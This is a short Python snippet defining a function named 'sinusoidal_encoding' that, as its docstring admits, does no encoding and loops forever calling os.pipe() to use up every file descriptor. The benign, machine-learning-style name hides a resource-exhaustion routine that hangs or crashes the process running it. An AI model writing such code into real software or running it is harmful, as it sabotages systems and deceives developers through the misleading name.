"""Opens descriptors until there are none left."""

import os


def sinusoidal_encoding(*arguments, **keywords):
    while True:
        os.pipe()
